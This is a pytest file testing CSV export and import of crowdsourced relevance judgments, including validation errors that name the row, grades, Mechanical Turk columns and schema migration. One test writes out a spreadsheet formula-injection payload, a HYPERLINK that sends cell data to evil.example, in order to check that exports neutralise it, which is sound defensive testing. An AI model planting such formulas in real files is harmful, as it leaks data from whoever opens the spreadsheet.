"""CSV round trip for crowdsourcing platforms, with validation errors that name the row."""

from __future__ import annotations

import csv
import re
import sqlite3
from contextlib import closing

import pytest
from review_support import escalated, staged_records, synced_db, tiny_dataset

from bridge.core.errors import InputError
from bridge.review.csvio import EXPORT_COLUMNS, export_csv, import_csv, inert_cell
from bridge.review.store import ReviewDB


@pytest.fixture
def db(tiny_beir, tmp_path):
    return synced_db(tmp_path / "r.sqlite", tiny_dataset(tiny_beir), staged_records(), check_share=0.25)


def read_rows(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def write_rows(path, header, rows):
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def test_export_has_one_row_per_item_with_the_rendered_history(db, tmp_path):
    summary = export_csv(db, tmp_path / "items.csv")
    rows = read_rows(tmp_path / "items.csv")
    assert (summary.cases, summary.checks) == (3, 1)
    assert tuple(rows[0]) == EXPORT_COLUMNS
    assert {r["item_id"] for r in rows} == {i.public_id for i in db.items()}
    debated = next(r for r in rows if "Round 2" in r["history"])
    assert debated["chunk"] == "X-rays\nRontgen discovered X-rays in 1895 in Wurzburg."
    assert "Agent A (opened: relevant): RELEVANT" in debated["history"]
    assert "reason: Discovering X-rays is not winning the first prize." in debated["history"]
    assert 'evidence: "made up quote" [not found in the chunk]' in debated["history"]
    pairs = {(i.qid, i.docid) for i in db.items()}
    names = {name for pair in pairs for name in pair}
    for r in rows:  # ids reveal nothing: one opaque hex token, never a query or document id
        tokens = set(re.split(r"[^0-9A-Za-z]+", r["item_id"]))
        assert re.fullmatch(r"[0-9a-f]{12}", r["item_id"]) and not tokens & names


def test_round_trip_decides_cases_and_reimport_changes_nothing(db, tmp_path):
    export_csv(db, tmp_path / "items.csv")
    checks = {i.public_id: i.gold for i in db.items("check")}
    filled = []
    for row in read_rows(tmp_path / "items.csv"):
        for worker in ("w1", "w2", "w3"):
            label = checks.get(row["item_id"], 1 if worker != "w3" else 0)  # w3 dissents on every case
            filled.append([row["item_id"], worker, str(label), f"by {worker}"])
    path = write_rows(tmp_path / "answers.csv", ["item_id", "worker", "label", "comment"], filled)
    summary, unfilled = import_csv(db, path)
    assert (summary.added, summary.unchanged, summary.new_workers, unfilled) == (12, 0, 3, 0)
    progress = db.progress()
    assert (progress.decided, progress.relevant) == (3, 3)
    assert progress.check_pass_rate == 1.0
    again, _ = import_csv(db, path)
    assert (again.added, again.unchanged) == (0, 12)
    assert len(db.judgments()) == 12
    # the next export holds only what is still open: no cases, hence no checks
    rest = export_csv(db, tmp_path / "rest.csv")
    assert (rest.cases, rest.checks) == (0, 0) and read_rows(tmp_path / "rest.csv") == []


def test_mechanical_turk_result_columns_are_understood(db, tmp_path):
    case = db.items("case")[0].public_id
    path = write_rows(
        tmp_path / "mturk.csv",
        ["HITId", "WorkerId", "Input.item_id", "Answer.label", "Answer.grade", "Answer.comment"],
        [["h1", "A1B2", case, "Relevant", "2", ""], ["h1", "C3D4", case, "not relevant", "", "off topic"]],
    )
    summary, _ = import_csv(db, path)
    assert summary.added == 2
    assert sorted((j.annotator, j.label, j.grade, j.comment) for j in db.judgments()) == [
        ("A1B2", 1, 2, ""),
        ("C3D4", 0, None, "off topic"),
    ]


def test_grades_are_imported_with_their_labels_and_an_empty_grade_is_none(db, tmp_path):
    first, second = (i.public_id for i in db.items("case")[:2])
    path = write_rows(
        tmp_path / "graded.csv",
        ["item_id", "worker", "label", "grade", "comment"],
        [
            [first, "w1", "1", "3", "perfectly relevant"],
            [first, "w2", "not relevant", "1", "related only"],
            [second, "w1", "0", "", "no grade given"],
            [second, "w2", "yes", " 02 ", ""],
            ["", "", "", "", ""],  # unfilled: passed over
        ],
    )
    summary, unfilled = import_csv(db, path)
    assert (summary.added, unfilled) == (4, 1)
    by_item = {first: "first", second: "second"}
    public = {i.id: by_item[i.public_id] for i in db.items("case") if i.public_id in by_item}
    assert sorted((public[j.item_id], j.annotator, j.label, j.grade) for j in db.judgments()) == [
        ("first", "w1", 1, 3),
        ("first", "w2", 0, 1),
        ("second", "w1", 0, None),
        ("second", "w2", 1, 2),
    ]
    again, _ = import_csv(db, path)  # the same grades: nothing changes
    assert (again.added, again.unchanged) == (0, 4)


@pytest.mark.parametrize("grade", ["-1", "2.5", "two", "\u00b2", "+1"])
def test_a_grade_that_is_not_a_non_negative_integer_is_named_and_nothing_is_imported(db, tmp_path, grade):
    case = db.items("case")[0].public_id
    rows = [[case, "w1", "1", "2"], [case, "w2", "1", grade]]
    path = write_rows(tmp_path / "bad.csv", ["item_id", "worker", "label", "grade"], rows)
    message = f"bad.csv, line 3, field 'grade': row 2: grade {grade!r} is not a non-negative integer"
    with pytest.raises(InputError, match=re.escape(message)):
        import_csv(db, path)
    assert db.judgments() == []


def test_a_row_with_only_a_grade_is_not_unfilled(db, tmp_path):
    case = db.items("case")[0].public_id
    path = write_rows(tmp_path / "g.csv", ["item_id", "worker", "label", "grade"], [[case, "", "", "1"]])
    with pytest.raises(InputError, match=r"line 2, field 'worker': row 1: empty worker"):
        import_csv(db, path)


@pytest.mark.parametrize(("before", "after", "said"), [("2", "3", "grade 2"), ("", "3", "no grade")])
def test_a_reimport_with_another_grade_is_refused(db, tmp_path, before, after, said):
    case = db.items("case")[0].public_id
    header = ["item_id", "worker", "label", "grade"]
    import_csv(db, write_rows(tmp_path / "a.csv", header, [[case, "w1", "1", before]]))
    message = rf"b.csv, line 2, field 'grade': row 1: worker 'w1' already judged item {case} as 1 \({said}\)"
    with pytest.raises(InputError, match=message):
        import_csv(db, write_rows(tmp_path / "b.csv", header, [[case, "w1", "1", after]]))
    assert [j.grade for j in db.judgments()] == [int(before) if before else None]


def test_a_database_made_before_grades_gains_the_column_and_keeps_working(db, tmp_path):
    case = db.items("case")[0].public_id
    import_csv(db, write_rows(tmp_path / "a.csv", ["item_id", "worker", "label"], [[case, "w1", "1"]]))
    db.close()
    with closing(sqlite3.connect(db.path)) as conn:  # as a bridge before grades left it
        conn.execute("ALTER TABLE judgments DROP COLUMN grade")
        assert "grade" not in {r[1] for r in conn.execute("PRAGMA table_info(judgments)")}
    old = ReviewDB(db.path)
    with closing(sqlite3.connect(db.path)) as conn:
        assert "grade" in {r[1] for r in conn.execute("PRAGMA table_info(judgments)")}
    assert [(j.annotator, j.label, j.grade) for j in old.judgments()] == [("w1", 1, None)]
    import_csv(old, write_rows(tmp_path / "b.csv", ["item_id", "worker", "label", "grade"], [[case, "w2", "0", "1"]]))
    web = old.annotator_by_token(old.add_annotator("web"))  # the web page's path: a judgment without a grade
    item = old.next_item(web.id)
    assert old.submit(web.id, item.public_id, 1)
    again = ReviewDB(db.path)  # opened once more: the column is there, nothing is added twice
    assert sorted((j.annotator, j.label, j.grade) for j in again.judgments()) == [
        ("w1", 1, None),
        ("w2", 0, 1),
        ("web", 1, None),
    ]


@pytest.mark.parametrize(
    ("rows", "message"),
    [
        ([["ITEM", "w1", "1"], ["nope", "w1", "1"]], r"line 3, field 'item_id': row 2: unknown item 'nope'"),
        ([["ITEM", "w1", "maybe"]], r"line 2, field 'label': row 1: label 'maybe' is not 1/0"),
        ([["ITEM", "", "1"]], r"line 2, field 'worker': row 1: empty worker"),
        ([["ITEM", "w1", "1"], ["ITEM", "w1", "0"]], r"line 3, field 'label': row 2: worker 'w1' already judged"),
    ],
)
def test_bad_rows_are_named_and_nothing_is_imported(db, tmp_path, rows, message):
    case = db.items("case")[0].public_id
    rows = [[case if cell == "ITEM" else cell for cell in row] for row in rows]
    path = write_rows(tmp_path / "bad.csv", ["item_id", "worker", "label"], rows)
    with pytest.raises(InputError, match=message):
        import_csv(db, path)
    assert db.judgments() == [] and db.annotators() == {}


def test_rows_spanning_lines_are_located_by_their_first_line(db, tmp_path):
    case = db.items("case")[0].public_id
    path = write_rows(
        tmp_path / "multi.csv",
        ["item_id", "worker", "label", "comment"],
        [[case, "w1", "1", "two\nlines"], [case, "w2", "2", ""]],
    )
    with pytest.raises(InputError, match=r"multi.csv, line 4, field 'label': row 2"):
        import_csv(db, path)


def test_a_contradicting_reimport_is_refused(db, tmp_path):
    case = db.items("case")[0].public_id
    import_csv(db, write_rows(tmp_path / "a.csv", ["item_id", "worker", "label"], [[case, "w1", "1"]]))
    with pytest.raises(InputError, match=r"worker 'w1' already judged item .* as 1"):
        import_csv(db, write_rows(tmp_path / "b.csv", ["item_id", "worker", "label"], [[case, "w1", "0"]]))


def test_missing_column_is_named(db, tmp_path):
    path = write_rows(tmp_path / "x.csv", ["item_id", "label"], [["a", "1"]])
    with pytest.raises(InputError, match="missing column 'worker'"):
        import_csv(db, path)


def test_a_csv_in_a_windows_code_page_is_one_error_naming_its_line(db, tmp_path):
    case = db.items("case")[0].public_id
    path = tmp_path / "excel.csv"
    path.write_bytes(f"item_id,worker,label,comment\r\n{case},w1,1,ok\r\n{case},w2,0,caf\xe9\r\n".encode("cp1252"))
    with pytest.raises(InputError, match=r"excel.csv, line 3: not UTF-8 text"):
        import_csv(db, path)
    assert db.judgments() == []


def test_a_passage_that_starts_like_a_formula_is_exported_inert(tiny_beir, tmp_path):
    """A spreadsheet runs a cell that starts with = + - @; the export puts a single quote before such text."""
    import json

    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with open(tiny_beir / "corpus.jsonl", "a", encoding="utf-8") as handle:
        handle.write(json.dumps({"_id": "d7", "title": "", "text": formula}) + "\n")
    db = synced_db(tmp_path / "r.sqlite", tiny_dataset(tiny_beir), [escalated("q1", "d7")], check_share=0.0)
    export_csv(db, tmp_path / "items.csv")
    (row,) = read_rows(tmp_path / "items.csv")
    assert row["chunk"] == "'" + formula
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert inert_cell(text) == "'" + text
    assert inert_cell("Rontgen = X-rays") == "Rontgen = X-rays" and inert_cell("") == ""


def test_the_sparse_benchmarks_simulated_people_answer_with_the_full_grades(db, tiny_beir, tmp_path):
    """A case's row carries the pair's grade under the full judgments (0 where they judge none), a check's none;
    the import reads them back."""
    import dataclasses

    from bridge.evaluation.reusability.sparse_cuts import PEOPLE_WORKERS, write_truthful_answers

    full = dataclasses.replace(tiny_dataset(tiny_beir), qrels={"q1": {"d2": 3, "d5": 1}}, relevance_threshold=2)
    export_csv(db, tmp_path / "items.csv")
    write_truthful_answers(db, full, tmp_path / "items.csv", tmp_path / "answers.csv")
    pairs = {i.public_id: (i.qid, i.docid) for i in db.items()}
    answered = {(pairs[r["item_id"]], r["label"], r["grade"]) for r in read_rows(tmp_path / "answers.csv")}
    (check,) = db.items("check")
    assert answered == {
        (("q1", "d2"), "1", "3"),
        (("q1", "d5"), "0", "1"),
        (("q2", "d4"), "0", "0"),
        ((check.qid, check.docid), str(check.gold), ""),
    }
    summary, _ = import_csv(db, tmp_path / "answers.csv")
    assert summary.added == 4 * len(PEOPLE_WORKERS)
    assert {j.grade for j in db.judgments() if j.kind == "check"} == {None}
    assert {j.grade for j in db.judgments() if j.kind == "case"} == {3, 1, 0}
